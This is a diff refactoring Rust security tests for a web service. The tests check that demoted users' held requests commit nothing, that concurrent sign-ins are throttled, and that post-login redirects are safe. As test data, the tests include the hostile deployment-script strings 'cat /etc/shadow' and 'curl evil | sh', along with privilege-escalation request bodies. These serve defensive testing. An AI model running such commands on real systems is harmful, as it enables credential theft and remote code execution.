@@ -8,7 +8,10 @@ use std::io::Write;
 use std::path::Path;
 use std::time::{Duration, Instant};
 
-use common::raw::{db, hold, hold_past_the_guards, login_form, send, sign_in, Browser};
+use common::raw::{
+    db, hold, hold_past_the_guards, login_form, post_login, send, sign_in, simultaneous_sign_ins,
+    Browser,
+};
 use common::server::{api_key, create_user, Server};
 use common::PASSWORD;
 use serde_json::{json, Value};
@@ -59,31 +62,28 @@ fn roles(server: &Server, key: &str, user: &str) -> Value {
 fn an_administrator_demoted_while_their_bodies_arrive_commits_nothing_in_maintenance() {
     let dir = tempfile::tempdir().unwrap();
     let (server, key, eve, sessions, project) = with_eve(dir.path());
+    let held = |browser: &Browser, method: &str, path: &str, body: Value| {
+        hold_past_the_guards(&server, dir.path(), browser, method, path, &body)
+    };
 
     // Three changes, each past the guards as an administrator, bodies held back.
-    let script = hold_past_the_guards(
-        &server,
-        dir.path(),
+    let script = held(
         &sessions[0],
         "PUT",
         &format!("/api/projects/{project}"),
-        &json!({"Name": "Web", "DeploymentScript": "cat /etc/shadow"}),
+        json!({"Name": "Web", "DeploymentScript": "cat /etc/shadow"}),
     );
-    let regrant = hold_past_the_guards(
-        &server,
-        dir.path(),
+    let regrant = held(
         &sessions[1],
         "PUT",
         &format!("/api/users/{eve}"),
-        &json!({"Roles": ["System Administrator"]}),
+        json!({"Roles": ["System Administrator"]}),
     );
-    let switch_off = hold_past_the_guards(
-        &server,
-        dir.path(),
+    let switch_off = held(
         &sessions[2],
         "PUT",
         "/api/maintenanceconfiguration",
-        &json!({"Id": "maintenance", "IsInMaintenanceMode": false}),
+        json!({"Id": "maintenance", "IsInMaintenanceMode": false}),
     );
 
     // Meanwhile the real administrator demotes eve and turns maintenance mode on.
@@ -125,30 +125,27 @@ fn an_administrator_demoted_while_their_bodies_arrive_commits_nothing_in_mainten
 fn a_caller_who_loses_the_permission_while_their_bodies_arrive_commits_nothing() {
     let dir = tempfile::tempdir().unwrap();
     let (server, key, eve, sessions, project) = with_eve(dir.path());
+    let held = |browser: &Browser, method: &str, path: &str, body: Value| {
+        hold_past_the_guards(&server, dir.path(), browser, method, path, &body)
+    };
 
-    let script = hold_past_the_guards(
-        &server,
-        dir.path(),
+    let script = held(
         &sessions[0],
         "PUT",
         &format!("/api/projects/{project}"),
-        &json!({"Name": "Web", "DeploymentScript": "curl evil | sh"}),
+        json!({"Name": "Web", "DeploymentScript": "curl evil | sh"}),
     );
-    let regrant = hold_past_the_guards(
-        &server,
-        dir.path(),
+    let regrant = held(
         &sessions[1],
         "PUT",
         &format!("/api/users/{eve}"),
-        &json!({"Roles": ["System Administrator"]}),
+        json!({"Roles": ["System Administrator"]}),
     );
-    let new_user = hold_past_the_guards(
-        &server,
-        dir.path(),
+    let new_user = held(
         &sessions[2],
         "POST",
         "/api/users",
-        &json!({"Username": "mallory", "Password": "a long password here", "Roles": ["System Administrator"]}),
+        json!({"Username": "mallory", "Password": "a long password here", "Roles": ["System Administrator"]}),
     );
 
     // Demoted to System Manager: can still edit users, but may not touch an
@@ -265,42 +262,17 @@ fn thirty_simultaneous_sign_ins_check_at_most_the_limit_of_passwords() {
     let dir = tempfile::tempdir().unwrap();
     create_user(dir.path(), "dana", "Project Deployer", PASSWORD);
     let server = Server::start(dir.path());
-    let port = server.port;
     // 29 wrong guesses and the right password, all posted at the same moment.
-    let forms: Vec<(String, String)> = (0..30).map(|_| login_form(port)).collect();
-    let barrier = std::sync::Arc::new(std::sync::Barrier::new(forms.len()));
-    let handles: Vec<_> = forms
-        .into_iter()
-        .enumerate()
-        .map(|(i, (cookie, token))| {
-            let barrier = barrier.clone();
-            std::thread::spawn(move || {
-                let password = if i == 29 {
-                    PASSWORD.to_string()
-                } else {
-                    format!("wrong guess {i}")
-                };
-                let body = common::form(&[
-                    ("username", "dana"),
-                    ("password", &password),
-                    ("csrf_token", &token),
-                ]);
-                barrier.wait();
-                send(
-                    port,
-                    "POST",
-                    "/login",
-                    &[
-                        ("Cookie", &cookie),
-                        ("Content-Type", "application/x-www-form-urlencoded"),
-                    ],
-                    &body,
-                )
-                .status
-            })
+    let passwords = (0..30)
+        .map(|i| {
+            if i == 29 {
+                PASSWORD.to_string()
+            } else {
+                format!("wrong guess {i}")
+            }
         })
         .collect();
-    let statuses: Vec<u16> = handles.into_iter().map(|h| h.join().unwrap()).collect();
+    let statuses = simultaneous_sign_ins(server.port, "dana", passwords);
     let checked = statuses.iter().filter(|s| **s == 401 || **s == 303).count();
     let throttled = statuses.iter().filter(|s| **s == 429).count();
     assert!(
@@ -359,22 +331,7 @@ fn the_profile_password_form_is_no_password_oracle() {
     assert_eq!(events(dir.path(), "PasswordCheckFailed"), 5);
     assert_eq!(events(dir.path(), "UserPasswordChanged"), 0);
     // And the sign-in form shares the throttle: the username is locked for the window.
-    let (cookie, token) = login_form(server.port);
-    let body = common::form(&[
-        ("username", "dana"),
-        ("password", PASSWORD),
-        ("csrf_token", &token),
-    ]);
-    let answer = send(
-        server.port,
-        "POST",
-        "/login",
-        &[
-            ("Cookie", &cookie),
-            ("Content-Type", "application/x-www-form-urlencoded"),
-        ],
-        &body,
-    );
+    let answer = post_login(server.port, &login_form(server.port), "dana", PASSWORD, "");
     assert_eq!(answer.status, 429);
 }
 
@@ -673,24 +630,12 @@ fn any_next_after_sign_in_is_a_safe_redirect() {
             "GET next={next}: {}{}",
             page.head, page.body
         );
-        let (cookie, token) = login_form(server.port);
-        let body = format!(
-            "{}&next={next}",
-            common::form(&[
-                ("username", "dana"),
-                ("password", PASSWORD),
-                ("csrf_token", &token)
-            ])
-        );
-        let answer = send(
+        let answer = post_login(
             server.port,
-            "POST",
-            "/login",
-            &[
-                ("Cookie", &cookie),
-                ("Content-Type", "application/x-www-form-urlencoded"),
-            ],
-            &body,
+            &login_form(server.port),
+            "dana",
+            PASSWORD,
+            &format!("&next={next}"),
         );
         assert_eq!(
             answer.status, 303,
@@ -823,21 +768,13 @@ fn a_database_that_cannot_be_written_answers_503_health_says_why_and_it_recovers
     );
 
     // A sign-in needs a write too: refused the same way, never a 500.
-    let (cookie, token) = login_form(server.port);
     let password = std::fs::read_to_string(data.join("initial-admin-password")).unwrap();
-    let answer = send(
+    let answer = post_login(
         server.port,
-        "POST",
-        "/login",
-        &[
-            ("Cookie", &cookie),
-            ("Content-Type", "application/x-www-form-urlencoded"),
-        ],
-        &common::form(&[
-            ("username", "admin"),
-            ("password", &password),
-            ("csrf_token", &token),
-        ]),
+        &login_form(server.port),
+        "admin",
+        &password,
+        "",
     );
     assert_eq!(answer.status, 503, "{}{}", answer.head, answer.body);
     assert!(answer.body.contains("cannot be written"), "{}", answer.body);
